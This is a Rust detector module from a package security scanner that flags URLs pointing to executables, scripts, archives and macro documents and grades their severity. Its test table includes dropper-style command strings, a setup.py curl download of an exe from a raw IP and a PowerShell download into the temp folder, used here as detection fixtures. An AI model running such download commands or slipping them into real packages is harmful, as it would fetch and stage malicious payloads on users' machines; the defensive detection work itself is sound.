//! `network.interesting-file-url`: URLs whose path ends in an executable, script,
//! installer, archive or macro-capable office format (`.exe .dll .ps1 .sh .bat
//! .msi .apk .jar .zip .7z .rar .docm .xlsm …`).
//!
//! Executables and scripts are medium (they are what droppers fetch), archives and
//! documents low; install-time files raise by one. An executable fetched from a file
//! drop or paste site ([`super::reputation`], Discord CDN attachments included) or an
//! IP-literal host, or saved into the temp dir / AppData on the same line (a command
//! string such as `curl -o %TEMP%\x.exe …`), is high (install critical); any other
//! file on a file drop is medium. URLs follow [`super::urls`] rules, command strings
//! included.

use super::pysrc::{self, MAX_HITS_PER_FILE};
use super::reputation::{self, Class};
use super::urls;
use crate::model::{Category, FileRole, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "network.interesting-file-url",
    revision: 2,
    title: "Contains URLs that link to interesting file formats.",
    category: Category::Network,
    severity: Severity::Low,
    description: "Links to executables, scripts, installers and archives are how second-stage payloads are fetched.",
};

/// Executable or script formats (medium).
const EXECUTABLE: &[&str] = &[
    "exe", "dll", "scr", "com", "msi", "msp", "ps1", "psm1", "bat", "cmd", "vbs", "vbe", "js", "jse", "wsf", "hta",
    "lnk", "sh", "bash", "elf", "bin", "so", "dylib", "apk", "jar", "dmg", "pkg", "deb", "rpm", "appimage", "pyc",
];
/// Archives and macro-capable documents (low).
const OTHER: &[&str] = &[
    "zip", "7z", "rar", "gz", "tgz", "bz2", "xz", "cab", "iso", "img", "doc", "docx", "docm", "xls", "xlsx", "xlsm",
    "ppt", "pptm", "rtf",
];

/// The interesting extension of a URL path, lowercased, with its class.
fn extension(path: &str) -> Option<(String, bool)> {
    let last = path.rsplit('/').next()?;
    let (stem, ext) = last.rsplit_once('.')?;
    if stem.is_empty() {
        return None;
    }
    let ext = ext.to_ascii_lowercase();
    // `.js` links are everywhere on the web; only count them when not a web asset path.
    if ext == "js" {
        return None;
    }
    if EXECUTABLE.contains(&ext.as_str()) {
        Some((ext, true))
    } else if OTHER.contains(&ext.as_str()) {
        Some((ext, false))
    } else {
        None
    }
}

pub(crate) struct InterestingFileUrl;

impl Detector for InterestingFileUrl {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(urls::URL_LITERALS)
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        if !urls::file_counts(file) {
            return;
        }
        let src = file.source();
        // Only a URL of a file format acts below: without one, the member is not lexed.
        if !urls::any_url(src, |u| extension(u.path).is_some()) {
            return;
        }
        let install = file.role == FileRole::InstallTime;
        for u in urls::find(src)
            .take(10 * MAX_HITS_PER_FILE)
            .filter_map(|u| extension(u.path).map(|e| (u, e)))
            .take(MAX_HITS_PER_FILE)
        {
            let (u, (_, exec)) = u;
            let drop = matches!(reputation::of_url(&u.host, u.path), Some(Class::FileDrop | Class::Paste));
            let raw_ip = super::net_ip_address::public_ip(&u.host);
            let line = pysrc::snippet_in(file.source(), u.offset).to_ascii_lowercase();
            let into_temp = ["%temp%", "$env:temp", "appdata", "gettempdir", "/tmp/", "%localappdata%"]
                .iter()
                .any(|t| line.contains(t));
            let sev = match (exec, exec && (drop || raw_ip || into_temp), install) {
                (_, true, true) => Severity::Critical,
                (_, true, false) | (true, false, true) => Severity::High,
                (true, false, false) | (false, _, true) => Severity::Medium,
                (false, _, false) if drop => Severity::Medium,
                (false, _, false) => Severity::Low,
            };
            hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, u.offset, u.url) });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::detectors::testutil::table;
    use FileRole::*;
    use Severity::*;

    #[test]
    fn cases() {
        table(
            &InterestingFileUrl,
            META.id,
            &[
                (
                    "exe",
                    "pkg/a.py",
                    Runtime,
                    "U = 'https://example.org/dl/setup.exe'\n",
                    Some((1, "https://example.org/dl/setup.exe", Medium)),
                ),
                (
                    "ps1 in setup.py",
                    "setup.py",
                    InstallTime,
                    "U = 'http://example.org/a.ps1?x=1'\n",
                    Some((1, "http://example.org/a.ps1?x=1", High)),
                ),
                (
                    "zip",
                    "pkg/a.py",
                    Runtime,
                    "\nU = 'https://example.org/data.zip'\n",
                    Some((2, "https://example.org/data.zip", Low)),
                ),
                (
                    "xlsm",
                    "pkg/a.py",
                    Runtime,
                    "U = 'https://example.org/x.XLSM'\n",
                    Some((1, "https://example.org/x.XLSM", Low)),
                ),
                (
                    "exe on a discord attachment",
                    "pkg/a.py",
                    Runtime,
                    "U = 'https://cdn.discordapp.com/attachments/1/2/update.exe'\n",
                    Some((1, "https://cdn.discordapp.com/attachments/1/2/update.exe", High)),
                ),
                (
                    "exe from a raw IP in setup.py",
                    "setup.py",
                    InstallTime,
                    "os.system('curl -o a.exe http://45.77.12.9/a.exe')\n",
                    Some((1, "http://45.77.12.9/a.exe", Critical)),
                ),
                (
                    "exe saved into temp in a command string",
                    "pkg/a.py",
                    Runtime,
                    "cmd = 'powershell iwr https://example.org/u.exe -OutFile $env:TEMP\\\\u.exe'\n",
                    Some((1, "https://example.org/u.exe", High)),
                ),
                (
                    "archive on a file drop",
                    "pkg/a.py",
                    Runtime,
                    "U = 'https://transfer.sh/abc/data.zip'\n",
                    Some((1, "https://transfer.sh/abc/data.zip", Medium)),
                ),
                (
                    "discord avatar image is not a drop",
                    "pkg/a.py",
                    Runtime,
                    "U = 'https://cdn.discordapp.com/avatars/1/a.zip'\n",
                    Some((1, "https://cdn.discordapp.com/avatars/1/a.zip", Low)),
                ),
                ("html page", "pkg/a.py", Runtime, "U = 'https://example.org/index.html'\n", None),
                ("js asset", "pkg/a.py", Runtime, "U = 'https://cdn.example.org/app.js'\n", None),
                ("exe in comment", "pkg/a.py", Runtime, "# https://example.org/setup.exe\n", None),
                ("exe in docs", "docs/index.rst", TestOrDocs, "https://example.org/setup.exe\n", None),
                ("domain only", "pkg/a.py", Runtime, "U = 'https://example.sh'\n", None),
            ],
        );
    }
}
